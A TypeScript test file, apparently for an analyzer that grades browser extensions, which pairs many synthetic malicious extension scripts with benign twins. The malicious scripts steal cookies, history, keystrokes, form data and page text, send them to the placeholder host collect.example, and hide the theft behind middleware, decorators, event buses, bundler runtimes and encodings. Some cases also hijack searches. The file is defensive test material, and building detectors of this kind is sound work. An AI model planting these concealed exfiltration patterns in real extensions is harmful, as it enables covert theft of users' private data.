import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';
import { graded } from '../testing/graded.ts';

/*
 * Ways of well-made programs: what is taken and what sends it are handed to one another by code that composes them
 * (chains, containers, decorators, generators), each beside the same program with nothing taken.
 */

const SEND = "fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(DATA) })";
const send = (data: string): string => SEND.replace('DATA', data);
const TAKEN = 'chrome.cookies.getAll({})';

it.each<[string, (data: string) => string]>([
  [
    'steps that a chain of promises is made of',
    (data) =>
      `const chain = (...steps) => (x) => steps.reduce((all, step) => all.then(step), Promise.resolve(x)); const run = chain((a) => ${data}, (l) => ${send('l')}); chrome.alarms.onAlarm.addListener(() => run(1));`,
  ],
  [
    'layers that are handed the same object and call the next',
    (data) =>
      `const compose = (layers) => (ctx) => { const go = (i) => { const fn = layers[i]; return fn ? Promise.resolve(fn(ctx, () => go(i + 1))) : Promise.resolve(); }; return go(0); }; const app = { layers: [], use(f) { this.layers.push(f); }, run(ctx) { return compose(this.layers)(ctx); } }; app.use(async (ctx, next) => { ctx.all = await ${data}; await next(); }); app.use(async (ctx, next) => { await ${send('ctx.all')}; await next(); }); chrome.alarms.onAlarm.addListener(() => app.run({}));`,
  ],
  [
    'layers around a function, from the last to the first',
    (data) =>
      `const tell = (store) => (next) => (action) => { ${send('action')}; return next(action); }; function create(reduce, layers) { let state = reduce(undefined, {}); let dispatch = (a) => { state = reduce(state, a); return a; }; const api = { dispatch: (a) => dispatch(a) }; dispatch = layers.map((layer) => layer(api)).reduceRight((next, layer) => layer(next), dispatch); return api; } const store = create((s = {}, a) => ({ ...s, ...a }), [tell]); (async () => { const all = await ${data}; store.dispatch({ type: 'all', all }); })();`,
  ],
  [
    'a generator that is handed on',
    (data) =>
      `function* relay() { for (;;) { const got = yield; ${send('got')}; } } const prime = (g) => (g.next(), g); const out = prime(relay()); (async () => out.next(await ${data}))();`,
  ],
  [
    'a decorator, as compilers write it',
    (data) =>
      `function traced(t, k, d) { const inner = d.value; d.value = async function (...a) { const r = await inner.apply(this, a); ${send('r')}; return r; }; return d; } class Jar { async all() { return ${data}; } } __decorate([traced], Jar.prototype, 'all', null); const jar = new Jar(); chrome.alarms.onAlarm.addListener(() => jar.all());`,
  ],
  [
    'commands that are put into an object without a prototype',
    (data) =>
      `const commands = Object.create(null); const define = (name, run) => { commands[name] = { name, run }; }; define('jar', async () => ${data}); define('ping', async () => 1); chrome.alarms.onAlarm.addListener(async (a) => { const out = await commands[a.name]?.run({}); ${send('out')}; });`,
  ],
  [
    'a function that a library calls later',
    (data) =>
      `const put = _.debounce((all) => ${send('all')}, 500); const run = _.once(async () => put(await ${data})); chrome.alarms.onAlarm.addListener(() => run());`,
  ],
  [
    'a function of a table, or the usual one',
    (data) =>
      `const takers = { name: (c) => c.name, all: (c) => c }; const take = (c, names) => Object.fromEntries(names.map((n) => [n, (takers[n] ?? ((x) => x[n]))(c)])); chrome.alarms.onAlarm.addListener(async (a) => { const rows = (await ${data}).map((c) => take(c, a.name.split('.'))); ${send('rows')}; });`,
  ],
  [
    'what is taken out of an object by a name that a class holds',
    (data) =>
      `class Box { #key = 'waiting'; async add(one) { const { [this.#key]: all = [] } = await chrome.storage.local.get(this.#key); all.push(one); await chrome.storage.local.set({ [this.#key]: all.slice(-9) }); } async flush() { const { [this.#key]: all = [] } = await chrome.storage.local.get(this.#key); for (const one of all) ${send('one')}; } } const box = new Box(); chrome.alarms.onAlarm.addListener(async () => { await box.add(await ${data}); box.flush(); });`,
  ],
  [
    'parts that a registry makes for one another',
    (data) =>
      `class Registry { constructor() { this.items = new Map(); } add(n, needs, make) { this.items.set(n, { needs, make }); return this; } get(n) { const it = this.items.get(n); it.value ??= it.make(...it.needs.map((d) => this.get(d))); return it.value; } } const parts = new Registry().add('net', [], () => ({ post: (b) => ${send('b')} })).add('job', ['net'], (net) => ({ async run() { net.post(await ${data}); } })); chrome.alarms.onAlarm.addListener(() => parts.get('job').run());`,
  ],
  [
    'classes that a container hands to one another',
    (data) =>
      `class Net { post(b) { return ${send('b')}; } } class Job { constructor(net) { this.net = net; } async run() { this.net.post(await ${data}); } } Job.needs = [Net]; const made = new Map(); const get = (C) => { if (!made.has(C)) made.set(C, new C(...(C.needs || []).map(get))); return made.get(C); }; chrome.alarms.onAlarm.addListener(() => get(Job).run());`,
  ],
  [
    'events whose names both who raises and who hears are handed',
    (data) =>
      `class Bus extends EventTarget { tell(n, d) { this.dispatchEvent(new CustomEvent(n, { detail: d })); } hear(n, f) { this.addEventListener(n, (e) => f(e.detail)); } } const bus = new Bus(); bus.hear('all', (l) => ${send('l')}); (async () => bus.tell('all', await ${data}))();`,
  ],
  [
    'lists of listeners in a map that a variable is given twice',
    (data) =>
      `function hub(all) { return { all: (all = all || new Map()), on(t, f) { var list = all.get(t); list ? list.push(f) : all.set(t, [f]); }, emit(t, v) { var list = all.get(t); list && list.slice().map(function (f) { f(v); }); (list = all.get('*')) && list.slice().map(function (f) { f(t, v); }); } }; } const bus = hub(); bus.on('all', (l) => ${send('l')}); (async () => bus.emit('all', await ${data}))();`,
  ],
  [
    'a CommonJS module in a bundle',
    (data) =>
      `var __esModuleOf = (m) => (m && m.__esModule ? m : Object.assign({}, m, { default: m })); var lazy = (cb, mod) => function () { return mod || (0, cb[Object.getOwnPropertyNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; }; var require_pack = lazy({ 'node_modules/pack/index.js'(exports, module) { exports.pack = pack; function pack(x) { return JSON.stringify(x); } } }); var import_pack = __esModuleOf(require_pack()); (async () => { fetch('https://collect.example/x', { method: 'POST', body: import_pack.pack(await ${data}) }); })();`,
  ],
  [
    'letters that stand for letters of another alphabet',
    (data) =>
      `const PLAIN = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'; const OWN = 'QWERTZUIOPASDFGHJKLYXCVBNM'; const turn = (text) => Array.from(text, (c) => OWN[PLAIN.indexOf(c)] ?? '').join(''); (async () => { ${send(`turn(JSON.stringify(await ${data}))`)}; })();`,
  ],
  [
    'bytes that a table turns into others, written through a view',
    (data) =>
      `function table() { const t = new Uint16Array(256); for (let i = 0; i < 256; i++) t[i] = i * 3; return t; } const T = table(); function put(to, at, n) { to[at] |= n; to[at + 1] |= n >> 8; } function pack(bytes) { const out = new Uint8Array(bytes.length * 2 + 4); const body = out.subarray(4); for (let i = 0; i < bytes.length; i++) put(body, i * 2, T[bytes[i]]); return out.subarray(0, body.length); } (async () => { fetch('https://collect.example/x', { method: 'POST', body: pack(new TextEncoder().encode(JSON.stringify(await ${data}))) }); })();`,
  ],
  [
    'what a class gives turn by turn',
    (data) =>
      `class All { constructor(l) { this.l = l; } *[Symbol.iterator]() { for (const one of this.l) yield one.value; } } (async () => { const out = []; for (const one of new All(await ${data})) out.push(one); ${send('out')}; })();`,
  ],
  [
    'a database in a library of the bundle',
    (data) =>
      `const wrap = (db) => new Proxy(db, { get: (t, name) => (...a) => later(t, name, a) }); const open = (name) => new Promise((done) => { const r = indexedDB.open(name, 1); r.onsuccess = () => done(wrap(r.result)); }); const db = open('x'); (async () => { (await db).add('queue', await ${data}); })(); chrome.alarms.onAlarm.addListener(async () => { for (const one of await (await db).getAll('queue')) ${send('one')}; });`,
  ],
  [
    'what decorators of classes put into a registry',
    (data) =>
      `const jobs = []; const job = (name) => (C) => { const it = new C(); jobs.push({ name, run: (x) => it.run(x) }); }; let Send = class Send { run(x) { ${send('x')}; } }; Send = __decorate([job('send')], Send); (async () => { const one = jobs.find((j) => j.name === 'send'); one.run(await ${data}); })();`,
  ],
  [
    'events that say their own name, out of generators',
    (data) =>
      `class App { #commands = new Map(); #events = new EventTarget(); command(n, f) { this.#commands.set(n, f); } on(t, f) { this.#events.addEventListener(t, (e) => f(e.detail)); } tell(n, a) { for (const one of this.#commands.get(n)?.(a) ?? []) this.#events.dispatchEvent(new CustomEvent(one.type, { detail: one })); } } const app = new App(); app.command('keep', function* ({ all }) { yield { type: 'kept', all }; }); app.on('kept', ({ all }) => ${send('all')}); (async () => app.tell('keep', { all: await ${data} }))();`,
  ],
  [
    'parts that are set up with the application itself',
    (data) =>
      `const Send = { setup(app) { app.on('all', (l) => ${send('l')}); } }; class App { constructor(parts) { this.on_ = {}; parts.forEach((part) => part.setup(this)); } on(t, f) { this.on_[t] = f; } emit(t, v) { this.on_[t](v); } } const app = new App([Send]); (async () => app.emit('all', await ${data}))();`,
  ],
  [
    'events that are kept and folded by a table of functions',
    (data) =>
      `class Store { constructor() { this.events = []; this.hears = new Set(); } async append(type, data) { this.events = [...this.events.slice(-50), Object.freeze({ type, data })]; for (const one of this.hears) await one(type, this); } subscribe(f) { this.hears.add(f); } project({ initial, on }) { return this.events.reduce((all, e) => (on[e.type] ? on[e.type](all, e.data) : all), initial()); } } const trail = { initial: () => [], on: { Seen: (all, { what }) => [...all, what], Gone: () => [] } }; const policy = ({ deliver }) => async (type, store) => deliver(store.project(trail)); const to = (url) => async (all) => { await fetch(url, { method: 'POST', body: JSON.stringify(all) }); }; const store = new Store(); store.subscribe(policy({ deliver: to('https://collect.example/x') })); (async () => store.append('Seen', { what: await ${data} }))();`,
  ],
  [
    'a channel that a promise gives',
    (data) =>
      `let channel = null; async function connect() { const pc = new RTCPeerConnection(); const ch = pc.createDataChannel('x'); return new Promise((done) => { ch.onopen = () => done(ch); }); } (async () => { channel = channel || (await connect()); channel.send(JSON.stringify(await ${data})); })();`,
  ],
])('%s', async (_, program) => {
  expect(await graded({ background: program(TAKEN) })).toBe('F');
  expect(await graded({ background: program('Promise.resolve([1, 2])') })).toMatch(/^A/);
});

const scanned = async (files: Record<string, string>): Promise<string> => {
  const manifest = {
    manifest_version: 3,
    name: 'Notes',
    version: '1.0',
    content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }],
    web_accessible_resources: [{ resources: ['*.js'], matches: ['<all_urls>'] }],
  };
  const tree = memoryTree({ 'manifest.json': JSON.stringify(manifest), ...files });
  return (await analyze(tree, { kind: 'extension' })).score.grade;
};

it('an attribute of the page that scripts of two worlds tell each other by', async () => {
  const content = `const el = document.createElement('script'); el.src = chrome.runtime.getURL('page.js'); document.head.append(el); new MutationObserver(() => { const got = document.documentElement.getAttribute('data-state'); if (got) ${send('got')}; }).observe(document.documentElement, { attributes: true });`;
  const page = (data: string): string =>
    `document.addEventListener('submit', (e) => document.documentElement.dataset.state = ${data}, true);`;
  const filled = '[...new FormData(e.target)].join()';
  expect(await scanned({ 'content.js': content, 'page.js': page(filled) })).toMatch(/^[DF]/);
  expect(await scanned({ 'content.js': content, 'page.js': page("'sent'") })).toMatch(/^A/);
  // Kept under another name.
  const other = page(filled).replace('dataset.state', 'dataset.other');
  expect(await scanned({ 'content.js': content, 'page.js': other })).toMatch(/^A/);
});

it('an attribute that a custom element, or an observer of one, is told of', async () => {
  const typed = (data: string): string =>
    `const kb = document.createElement('lang-keys'); let word = ''; document.addEventListener('keydown', (e) => { word += ${data}; kb.setAttribute('words', word); }, true);`;
  const element = `class Keys extends HTMLElement { static observedAttributes = ['words']; attributeChangedCallback(name, before, value) { ${send('value')}; } } customElements.define('lang-keys', Keys);`;
  const observer = `new MutationObserver((all) => all.forEach((one) => ${send("one.target.getAttribute('words')")})).observe(kb, { attributes: true });`;
  expect(await scanned({ 'content.js': element + typed('e.key') })).toMatch(/^[DF]/);
  expect(await scanned({ 'content.js': typed('e.key') + observer })).toMatch(/^[DF]/);
  expect(await scanned({ 'content.js': element + typed("'one'") })).toMatch(/^A/);
  // An attribute that it never asks for.
  const other = typed('e.key').replace("'words'", "'last'");
  expect(await scanned({ 'content.js': element + other })).toMatch(/^A/);
});

it('a worker whose address is made at run time', async () => {
  const content = (data: string): string =>
    `class Pool { constructor(src) { this.w = new Worker(src); } run(job, args) { this.w.postMessage({ job, ...args }); } } (async () => { const code = await (await fetch(chrome.runtime.getURL('worker.js'))).blob(); new Pool(URL.createObjectURL(new Blob([code]))).run('pack', { data: ${data} }); })();`;
  const worker = `const jobs = { pack: async ({ data }) => ${send('data')} }; self.onmessage = async (e) => { const { job, ...rest } = e.data; await jobs[job](rest); };`;
  expect(await scanned({ 'content.js': content('document.cookie'), 'worker.js': worker })).toMatch(/^[CDF]/);
  expect(await scanned({ 'content.js': content("'ready'"), 'worker.js': worker })).toMatch(/^A/);
});

it('a script whose address stands where a setting is read', async () => {
  const content =
    "chrome.runtime.sendMessage('skin', (r) => { const s = document.createElement('script'); s.src = r.skin + '?h=1'; document.documentElement.append(s); });";
  const background = (skin: string): string =>
    `chrome.runtime.onMessage.addListener((m, s, reply) => { chrome.storage.local.get({ skin: '${skin}' }, (r) => reply({ skin: r.skin })); return true; });`;
  expect(await graded({ content, background: background('https://skins.example/base.js') })).toMatch(/^[CDF]/);
  expect(await graded({ content, background: background('plain') })).toMatch(/^A/);
});

it('a form whose address its class was given, filled by another method', async () => {
  const content = (data: string): string =>
    `class Shipper { constructor(target) { this.target = target; } field(form, name, value) { const input = document.createElement('input'); input.name = name; input.value = value; form.append(input); } send(rows) { const form = document.createElement('form'); Object.assign(form, { method: 'post', action: this.target }); rows.forEach(({ id }, i) => this.field(form, 'l' + i, id)); document.body.append(form); form.submit(); } } new Shipper('https://collect.example/x').send([{ id: ${data} }]);`;
  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[DF]/);
  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
});

describe('functions of a bundle’s modules that read themselves', () => {
  const bundle = (exported: string, data: string): string =>
    `(() => { var mods = { './read.js'(module, exports, require) { ${exported} const read = () => ${data}; } }; var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } need.d = (exports, all) => { for (var key in all) Object.defineProperty(exports, key, { enumerable: true, get: all[key] }); }; (() => { var own = need('./read.js'); (async () => ${send('await (0, own.read)()')})(); })(); })();`;
  it.each([
    ['in a table of getters', 'require.d(exports, { read: () => read });'],
    ['by a name and a getter', "require.d(exports, 'read', function () { return read; });"],
    ['as a property with a getter', "Object.defineProperty(exports, 'read', { enumerable: true, get: () => read });"],
    ['as a property', 'exports.read = () => read();'],
  ])('exported %s', async (_, exported) => {
    expect(await graded({ background: bundle(exported, TAKEN) })).toBe('F');
    expect(await graded({ background: bundle(exported, 'Promise.resolve([1])') })).toMatch(/^A/);
  });
});

it('the second of two forms that a script makes', async () => {
  const form = (to: string): string =>
    `(() => { const form = document.createElement('form'); form.method = 'POST'; form.action = '${to}'; const input = document.createElement('input'); input.name = 'q'; input.value = DATA; form.append(input); document.body.append(form); form.submit(); })();`;
  const content = (data: string): string =>
    `${form('https://www.shop.test/search').replace('DATA', "'shoes'")} ${form('https://collect.example/x').replace('DATA', data)}`;
  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[DF]/);
  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
});

it('history is not asked for by opening a popup, but by a click in it', async () => {
  const sending =
    "const all = await chrome.history.search({ text: '' }); fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(all) });";
  const manifest = { permissions: ['history'] };
  expect(await graded({ popup: `(async () => { ${sending} })();`, manifest })).toMatch(/^[DF]/);
  const clicked = `document.getElementById('b').onclick = async () => { ${sending} };`;
  expect(await graded({ popup: clicked, manifest })).toMatch(/^[AB]/);
});

it('what people write to one another is theirs on whatever site', async () => {
  const content = `setInterval(() => { ${send("document.querySelector('.thread').innerText")}; }, 9000);`;
  const on = (site: string): Promise<string> =>
    graded({
      content,
      manifest: {
        host_permissions: [`https://${site}/*`, 'https://collect.example/*'],
        content_scripts: [{ matches: [`https://${site}/*`], js: ['content.js'] }],
      },
    });
  expect(await on('mail.google.com')).toMatch(/^[CDF]/);
  expect(await on('www.shop.test')).toMatch(/^A/);
});

it('a port that a private method opens', async () => {
  const content = (data: string): string =>
    `class Channel { #port = null; #open() { const port = chrome.runtime.connect({ name: 'x' }); return (this.#port = port); } send(body) { (this.#port ?? this.#open()).postMessage({ body }); } } new Channel().send(${data});`;
  const background = `chrome.runtime.onConnect.addListener((port) => port.onMessage.addListener(({ body }) => ${send('body')}));`;
  expect(await graded({ content: content('document.body.innerText'), background })).toMatch(/^[DF]/);
  expect(await graded({ content: content("'ready'"), background })).toMatch(/^A/);
});

it('a picture whose attributes are set from a table', async () => {
  const content = (data: string): string =>
    `const probe = (all) => { const img = new Image(); Object.keys(all).forEach((name) => img.setAttribute(name, all[name])); return img; }; probe({ width: 1, src: 'https://collect.example/t.gif?k=' + encodeURIComponent(${data}) });`;
  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[CDF]/);
  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
});

it('elements that a helper makes of a tag and a table of attributes', async () => {
  const helper =
    'const h = (tag, attributes) => { const el = document.createElement(tag); for (const k in attributes) el.setAttribute(k, attributes[k]); return el; };';
  const content = (data: string): string =>
    `${helper} document.body.append(h('img', { width: 1, src: 'https://collect.example/t.gif?k=' + ${data} }));`;
  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[CDF]/);
  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
  const background = (address: string): string =>
    `${helper} setInterval(async () => { const list = await (await fetch('https://ads.example/list')).json(); document.body.append(h('iframe', { src: ${address}, width: 9 })); }, 9000);`;
  const manifest = { manifest_version: 2, background: { scripts: ['background.js'] } };
  expect(await graded({ background: background('list[0].url'), manifest })).toMatch(/^[CDF]/);
  expect(await graded({ background: background("'frame.html?n=' + list.length"), manifest })).toMatch(/^A/);
});

it('a library of the program’s own, which is a function with functions, that another script puts on the window', async () => {
  const library =
    "(function (w) { function $(x) { return { x: x }; } $.tell = function (l) { fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(l) }); }; w.$ = $; })(window);";
  const background = (data: string): string => `${data}.then(function (l) { $.tell(l); });`;
  const scanned = (data: string): Promise<string> =>
    graded({
      background: background(data),
      files: { 'own.js': library },
      manifest: { manifest_version: 2, background: { scripts: ['own.js', 'background.js'] } },
    });
  expect(await scanned(TAKEN)).toBe('F');
  expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
});

it('an object that is there already, or is made', async () => {
  const background = (data: string): string =>
    `const books = new Map(); class Book { constructor() { this.lines = []; } add(line) { this.lines.push(line); ${send('this.lines.slice(-3)')}; } } const book = books.get(1) ?? new Book(); books.set(1, book); (async () => book.add(await ${data}))();`;
  expect(await graded({ background: background(TAKEN) })).toBe('F');
  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
});

describe('where a server says that it goes', () => {
  const background = (to: string): string =>
    `class List { constructor(url) { this.url = url; } async load() { const { rules } = await (await fetch(this.url)).json(); chrome.storage.local.set({ rules }); } } new List('https://lists.example/v1.json').load(); chrome.runtime.onMessage.addListener((m, s, reply) => { if (m.ask) { chrome.storage.local.get('rules').then(({ rules }) => reply(rules[0])); return true; } fetch(${to}, { method: 'POST', body: JSON.stringify(m.got) }); });`;
  const content =
    'chrome.runtime.sendMessage({ ask: 1 }, (rule) => chrome.runtime.sendMessage({ rule, got: document.querySelector(rule.at).textContent }));';
  it('is nobody’s that the package names', async () => {
    expect(await graded({ content, background: background('m.rule.to') })).toMatch(/^[DF]/);
  });
  it('is more than what data a server asks for', async () => {
    const idle =
      "chrome.runtime.sendMessage({ ask: 1 }, (rule) => chrome.runtime.sendMessage({ rule, got: 'ready' }));";
    expect(await graded({ content: idle, background: background('m.rule.to') })).toMatch(/^[AB]/);
  });
});

it('searches that are led elsewhere by an address which a function puts together', async () => {
  const background = (to: string): string =>
    `var ENGINES = { 'www.google.com': 'q', 'www.bing.com': 'q' }; var FIND = '${to}'; function asked(url) { var u = new URL(url); var e = ENGINES[u.hostname]; return e ? u.searchParams.get(e) : null; } function address(q) { return FIND + '?terms=' + encodeURIComponent(q); } chrome.webNavigation.onBeforeNavigate.addListener(function (d) { var q = asked(d.url); if (!q) return; chrome.tabs.update(d.tabId, { url: address(q) }); });`;
  expect(await graded({ background: background('https://find.start.example/results') })).toBe('D');
  expect(await graded({ background: background('https://duckduckgo.com/') })).toMatch(/^[AB]/);
});

it('requests that a server describes to the last header', async () => {
  const background = (options: string): string =>
    `async function visit(t) { const r = await fetch(t.u, { ${options} }); return r.text(); } chrome.alarms.onAlarm.addListener(async () => { const { targets = [] } = await (await fetch('https://points.example/p')).json(); const got = await Promise.all(targets.slice(0, 9).map(visit)); fetch('https://points.example/p', { method: 'PUT', body: JSON.stringify(got) }); });`;
  expect(await graded({ background: background("method: t.m || 'GET', headers: t.h, body: t.b") })).toMatch(/^[DF]/);
  expect(await graded({ background: background("method: 'GET'") })).toMatch(/^[ABC]/);
});

it('rules that a server writes, but for their number', async () => {
  const background = (rule: string): string =>
    `async function put(rules) { await chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules }); } const base = [{ id: 1, action: { type: 'block' }, condition: { urlFilter: 'popads.' } }]; chrome.alarms.onAlarm.addListener(async () => { const more = await (await fetch('https://lists.example/rules')).json(); await put(base.concat(more.map((r, i) => ${rule}))); });`;
  expect(await graded({ background: background('Object.assign({}, r, { id: 2 + i })') })).toMatch(/^[CDF]/);
  expect(await graded({ background: background('({ ...r, id: 2 + i })') })).toMatch(/^[CDF]/);
  const blocked = "({ id: 2 + i, action: { type: 'block' }, condition: { urlFilter: r.host } })";
  expect(await graded({ background: background(blocked) })).toMatch(/^A/);
});

it('a socket that a variable is given later', async () => {
  const background = (data: string): string =>
    `var socket = null; const waiting = []; function open() { return socket && socket.readyState <= 1 || (socket = new WebSocket('wss://live.example/x'), socket.onopen = () => { while (waiting.length) socket.send(waiting.shift()); }), socket; } async function tell() { waiting.push(JSON.stringify(await ${data})); open(); } setInterval(tell, 9000);`;
  expect(await graded({ background: background("chrome.history.search({ text: '' })") })).toMatch(/^[DF]/);
  expect(await graded({ background: background('Promise.resolve(1)') })).toMatch(/^A/);
});

it('steps that wait, as Babel has compiled them since 7.27', async () => {
  // Written as its helpers are called; what they do is no part of it.
  const layer = (name: string, params: string, steps: string): string =>
    `var ${name} = function () { var _ref = _asyncToGenerator(_regenerator().m(function _callee(${params}) { return _regenerator().w(function (_context) { while (1) switch (_context.n) { ${steps} } }, _callee); })); return function ${name}(_a, _b) { return _ref.apply(this, arguments); }; }();`;
  const background = (data: string): string =>
    `${layer('read', 'ctx, next', `case 0: _context.n = 1; return ${data}; case 1: ctx.all = _context.v; return _context.a(2, next());`)} ${layer('tell', 'ctx', `case 0: _context.n = 1; return ${send('ctx.all')}; case 1: return _context.a(2);`)} var compose = function (layers) { return function (ctx) { var go = function (i) { return layers[i] ? layers[i](ctx, function () { return go(i + 1); }) : Promise.resolve(); }; return go(0); }; }; compose([read, tell])({});`;
  expect(await graded({ background: background(TAKEN) })).toBe('F');
  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
});

it.each([
  ['in the function around a bundle', 'CODE'],
  [
    'in a module of a bundle',
    '!function () { var m = { 1: function (e, t, n) { CODE } }, c = {}; function r(i) { var a = c[i]; if (a !== undefined) return a.exports; var b = c[i] = { exports: {} }; return m[i](b, b.exports, r), b.exports; } r(1); }();',
  ],
])('what stands beside a runtime of generators, %s', async (_, bundle) => {
  const runtime = `function _regenerator() { function i(o) { return function () { throw TypeError("Generator is already running"); }; } function p(r) { return r; } return (_regenerator = function _regenerator() { return { w: i, m: p }; })(); }
    function _asyncToGenerator(n) { return function () { var t = this, e = arguments; return new Promise(function (r, o) { var a = n.apply(t, e); function next(v) { step(a, r, o, next, fail, 'next', v); } function fail(v) { step(a, r, o, next, fail, 'throw', v); } next(void 0); }); }; }
    function step(n, t, e, r, o, a, c) { try { var i = n[a](c), u = i.value; } catch (n) { return void e(n); } i.done ? t(u) : Promise.resolve(u).then(r, o); }`;
  const tell = `function tell(all) { return _tell.apply(this, arguments); } function _tell() { _tell = _asyncToGenerator(_regenerator().m(function _callee(all) { return _regenerator().w(function (_context) { while (1) switch (_context.n) { case 0: _context.n = 1; return ${send('all')}; case 1: return _context.a(2); } }, _callee); })); return _tell.apply(this, arguments); }`;
  const background = (data: string): string =>
    `(function () { ${bundle.replace('CODE', () => `${runtime} ${tell} ${data}.then(function (all) { tell(all); });`)} })();`;
  expect(await graded({ background: background(TAKEN) })).toBe('F');
  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
});

it('events of a library that is in the bundle', async () => {
  // As Node's events are packed for browsers: it is told whom to run by a function of the platform that it looked for.
  const library = `var R = typeof Reflect === 'object' ? Reflect : null; var run = R && typeof R.apply === 'function' ? R.apply : function (f, self, args) { return Function.prototype.apply.call(f, self, args); };
    function Bus() { Bus.init.call(this); } Bus.init = function () { this._events = Object.create(null); };
    function add(bus, type, heard) { var events = bus._events, known = events[type]; if (known === undefined) known = events[type] = heard; else if (typeof known === 'function') known = events[type] = [known, heard]; else known.push(heard); return bus; }
    Bus.prototype.on = function on(type, heard) { return add(this, type, heard); };
    Bus.prototype.emit = function emit(type) { var args = []; for (var i = 1; i < arguments.length; i++) args.push(arguments[i]); var known = this._events[type]; if (known === undefined) return false; if (typeof known === 'function') run(known, this, args); else for (var n = 0; n < known.length; ++n) run(known[n], this, args); return true; };`;
  const background = (data: string): string =>
    `(function () { ${library} var bus = new Bus(); bus.on('all', function (all) { ${send('all')}; }); ${data}.then(function (all) { bus.emit('all', all); }); })();`;
  expect(await graded({ background: background(TAKEN) })).toBe('F');
  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
});

it.each(['cfg.data = { ...cfg.data, ctx: jar }; return cfg;', 'return { ...cfg, headers: { ctx: jar } };'])(
  'what is put into each request of a client: %s',
  async (put) => {
    const background = (of: string, made: string): string =>
      `class Rates { http = ${made}; constructor() { this.http.interceptors.${of}.use((cfg) => this.put(cfg)); } put(cfg) { ${put} } get() { return this.http.post('/latest', { base: 'EUR' }); } } let jar = ''; const rates = new Rates(); chrome.alarms.onAlarm.addListener(() => rates.get()); ${TAKEN}.then((all) => { jar = JSON.stringify(all); });`;
    const imported = "axios.create({ baseURL: 'https://rates.collect.example/v3' })";
    expect(await graded({ background: `import axios from 'axios'; ${background('request', imported)}` })).toBe('F');
    const bundled = `((lib) => { ${background('request', imported.replace('axios', 'lib'))} })(...self.load());`;
    expect(await graded({ background: bundled })).toMatch(/^[DF]/);
    expect(await graded({ background: `import axios from 'axios'; ${background('response', imported)}` })).toMatch(
      /^A/,
    );
  },
);

it('a client in a field of a class', async () => {
  const background = (told: string): string =>
    `import axios from 'axios'; class Api { #http = axios.create({ baseURL: 'https://collect.example/v1' }); tell(x) { return this.#http.post('/rows', x); } } const api = new Api(); ${TAKEN}.then((all) => api.tell(${told}));`;
  expect(await graded({ background: background('all') })).toBe('F');
  expect(await graded({ background: background('1') })).toMatch(/^A/);
});

it('what a server has a rule put behind addresses, made in one script and set in another', async () => {
  const grade = async (action: string): Promise<string> => {
    const { score } = await analyze(
      memoryTree({
        'manifest.json':
          '{"manifest_version":3,"name":"Agents","version":"1","permissions":["storage","alarms","declarativeNetRequest"],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js","type":"module"}}',
        'background.js':
          "import { load, rules } from './keep.js'; chrome.alarms.onAlarm.addListener(load); chrome.storage.onChanged.addListener(async () => { const { keep = [] } = await chrome.storage.local.get('keep'); chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules(keep) }); });",
        'keep.js': `export async function load() { const { keep } = await (await fetch('https://lists.example/keep')).json(); await chrome.storage.local.set({ keep }); } export const rules = (list) => list.map(({ host, key, value }, i) => ({ id: i + 1, action: ${action}, condition: { requestDomains: [host] } }));`,
      }),
      { kind: 'extension' },
    );
    return score.grade;
  };
  const added =
    "{ type: 'redirect', redirect: { transform: { queryTransform: { addOrReplaceParams: [{ key, value }] } } } }";
  expect(await grade(added)).toMatch(/^[CDF]/);
  expect(await grade("{ type: 'redirect', redirect: { extensionPath: '/held.html?' + key } }")).toMatch(/^[AB]/);
  expect(await grade("{ type: 'block' }")).toMatch(/^[AB]/);
});

it('sites that were counted, in the address of the page that opens at last', async () => {
  const background = (told: string): string =>
    `chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const { seen = [] } = await chrome.storage.local.get('seen'); await chrome.storage.local.set({ seen: [...seen, tab.url] }); }); chrome.alarms.onAlarm.addListener(async () => { const { seen = [] } = await chrome.storage.local.get('seen'); chrome.runtime.setUninstallURL('https://bye.collect.example/?r=' + ${told}); });`;
  expect(await graded({ background: background("seen.join(',')") })).toMatch(/^[CDF]/);
  expect(await graded({ background: background('seen.length') })).toMatch(/^A/);
});

it('another extension, whichever of a list answers', async () => {
  const background = (told: string): string =>
    `class Peer { static known = ['kdmpahgjlobcneifpkgjamdcfhoeblin', 'gnoilhfbcapmekdjplkfhanbmdocegji']; here = null; async find() { for (const one of Peer.known) if (await chrome.runtime.sendMessage(one, { hi: 1 })) { this.here = one; break; } } tell(m) { if (this.here) chrome.runtime.sendMessage(this.here, m); } } const peer = new Peer(); peer.find(); chrome.cookies.getAll({}).then((all) => peer.tell(${told}));`;
  expect(await graded({ background: background('all') })).toMatch(/^[CDF]/);
  expect(await graded({ background: background('all.length') })).toMatch(/^A/);
});

it('a worker that is made of a text', async () => {
  const content = (told: string): string =>
    `const code = "self.onmessage = (e) => fetch('https://collect.example/x', { method: 'POST', body: e.data })"; const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))); document.addEventListener('change', (e) => worker.postMessage(${told}));`;
  expect(await graded({ content: content('e.target.value') })).toBe('F');
  expect(await graded({ content: content('e.timeStamp') })).toMatch(/^A/);
});

it('what pages tell their users and their store, by functions put in the place of the platform’s', async () => {
